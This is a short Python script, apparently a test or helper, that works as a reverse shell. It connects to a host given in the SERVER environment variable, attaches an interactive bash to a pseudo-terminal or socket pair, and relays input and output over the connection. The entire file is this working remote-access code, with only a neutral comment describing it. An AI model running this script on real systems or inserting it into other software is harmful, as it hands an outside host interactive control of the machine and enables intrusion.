# what: the shell on a terminal of its own where there is one, else on a pair of unix sockets, and a loop that carries
# bytes between it and the connection
# server: shell
import os, select, socket

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
s = socket.create_connection((host, int(port)))
try:
    ours, theirs = os.openpty()
except OSError:
    ours, theirs = (x.detach() for x in socket.socketpair())
if os.fork() == 0:
    os.setsid()
    for fd in range(3):
        os.dup2(theirs, fd)
    os.execv("/bin/bash", ["bash", "-i"])
os.close(theirs)
while True:
    ready = select.select([s, ours], [], [])[0]
    try:
        if s in ready and (data := s.recv(1024)):
            os.write(ours, data)
        if ours in ready:
            if not (data := os.read(ours, 1024)):
                break
            s.sendall(data)
    except OSError:
        break
os.wait()
print("done")
